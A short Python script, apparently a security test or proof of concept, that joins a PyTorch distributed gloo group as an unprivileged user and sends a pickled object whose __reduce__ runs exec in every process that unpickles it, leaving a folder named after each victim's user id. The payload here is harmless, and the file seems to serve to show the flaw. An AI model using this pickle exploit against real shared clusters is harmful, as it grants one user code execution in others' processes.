"""Another user of the node, who takes the place of a rank that has not arrived: sends a hostile object to the others.

Usage: joining.py PORT MARKER LIMIT_S. Imports torch as the user who starts it, and then becomes user 65534, who owns
nothing. The object makes a folder MARKER.UID for the user id of each process that unpickles it.
"""

from __future__ import annotations

import os
import sys
from datetime import timedelta

from torch import distributed

NOBODY = 65534


class _Exploit:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"import os; os.mkdir({self.marker!r} + '.' + str(os.getuid()))",)


def main() -> None:
    port, marker, limit_s = sys.argv[1:]
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    place = {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": port, "RANK": "1", "WORLD_SIZE": "2"}
    os.environ.update(place, TORCHELASTIC_USE_AGENT_STORE="True", TORCHELASTIC_RESTART_COUNT="0")
    distributed.init_process_group("gloo", timeout=timedelta(seconds=float(limit_s)))
    distributed.all_gather_object([None, None], _Exploit(marker))


if __name__ == "__main__":
    main()
